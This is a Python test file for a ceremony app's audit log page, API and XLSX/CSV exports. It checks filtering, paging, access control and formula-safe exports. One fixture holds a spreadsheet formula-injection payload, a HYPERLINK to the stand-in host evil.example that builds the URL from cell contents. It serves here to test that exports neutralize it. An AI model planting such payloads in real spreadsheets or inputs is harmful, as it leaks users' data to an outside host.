"""The audit page (filters, paging, organizers only), its XLSX/CSV exports and listAuditEntries."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import sqlalchemy as sa
from openpyxl import load_workbook

from ceremony.audit.tracking import acting_as

EVIL = '=HYPERLINK("http://evil.example/?"&B2&C2,"Xem")'


def _segments(db, ceremony_id):
    from ceremony.program.models import Segment

    return list(db.session.scalars(sa.select(Segment).where(Segment.ceremony_id == ceremony_id)
                                   .order_by(Segment.position)))


def _history(db, program, clock):
    """Entries over three days: 60 script edits by the scheduler on day 1, a rename by the system on day 3."""
    first, second = _segments(db, program.id)[:2]
    clock.set(clock() + timedelta(days=1))  # 28/9 07:00 in Vietnam
    with acting_as("scheduler"):
        for n in range(60):
            first.script = f"Lời dẫn số {n}"
            db.session.commit()
    clock.set(clock() + timedelta(days=2))  # 30/9
    second.title = EVIL
    db.session.commit()
    return first, second


def test_the_page_filters_and_pages_and_only_organizers_read_it(clock, client, db, program, login, make_user):
    _history(db, program, clock)
    url = f"/ceremonies/{program.id}/audit"
    viewer = make_user("viewer")
    client.post("/login", data={"email": viewer.email, "password": "correct-horse"})
    assert client.get(url).status_code == 403
    client.get("/logout")
    login("organizer")
    page = client.get(url).get_data(as_text=True)
    assert "Nhật ký thay đổi" in page and "Trang 1 /" in page
    assert page.count('data-entity="segment"') == 50  # one page of 50, newest first
    assert "=HYPERLINK" in page.replace("&#34;", '"').replace("&amp;", "&")  # shown as text (escaped)
    second = client.get(url + "?page=2").get_data(as_text=True)
    assert "Lời dẫn số 0" in second or "Lời dẫn số 1" in second

    def count(query):
        body = client.get(url + "?" + query).get_data(as_text=True)
        return int(body.split('id="audit-total">')[1].split(" ")[0])

    assert count("entity_type=segment&actor=schedul") == 60
    assert count("entity_type=segment&since=2024-09-28&until=2024-09-28") == 60
    assert count("entity_type=segment&since=2024-09-30") == 1
    assert count("text=L%E1%BB%9Di+d%E1%BA%ABn+s%E1%BB%91+42") == 1  # "Lời dẫn số 42" in the changes
    assert count("entity_type=site") == 8  # the network copied on day 0 (system)
    refused = client.get(url + "?since=2024-13-01")
    assert refused.status_code == 422 and "since" in refused.get_data(as_text=True)


def test_exports_are_formula_safe_and_complete(clock, client, db, program, login):
    _history(db, program, clock)
    login("organizer")
    response = client.get(f"/ceremonies/{program.id}/audit.xlsx?entity_type=segment")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 1 + 61 + 5  # header, 61 edits, 5 segments created with the program
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r"))), cell
    labels = [row[5] for row in rows]
    assert "'" + EVIL in labels
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)

    text = client.get(f"/ceremonies/{program.id}/audit.csv?entity_type=segment").data.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text)))
    assert len(table) == 67 and "'" + EVIL in [row[5] for row in table]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row)


def test_list_audit_entries_api(clock, client, db, program, api_headers):
    _history(db, program, clock)
    url = f"/api/v1/ceremonies/{program.id}/audit"
    organizer = api_headers("organizer")
    body = client.get(url + "?entity_type=segment&per_page=10", headers=organizer).get_json()
    assert body["total"] == 66 and len(body["items"]) == 10 and body["page"] == 1
    newest = body["items"][0]
    assert newest["action"] == "update" and newest["after"] == {"title": EVIL} and newest["actor_kind"] == "system"
    assert client.get(url + "?actor=scheduler&since=2024-09-28&until=2024-09-28",
                      headers=organizer).get_json()["total"] == 60
    assert client.get(url, headers=api_headers("viewer")).status_code == 403
    assert client.get(url).status_code == 401
    bad = client.get(url + "?since=yesterday", headers=organizer)
    assert bad.status_code == 422 and "since" in bad.get_data(as_text=True)
    assert client.get(url + "?text=%00", headers=organizer).status_code == 422
    assert client.get(url + "?entity_type=nope", headers=organizer).status_code == 422
    assert client.get("/api/v1/ceremonies/999/audit", headers=organizer).status_code == 404
    spec = client.get("/api/v1/openapi.json").get_json()
    operations = {op["operationId"] for path in spec["paths"].values() for op in path.values() if "operationId" in op}
    assert "listAuditEntries" in operations
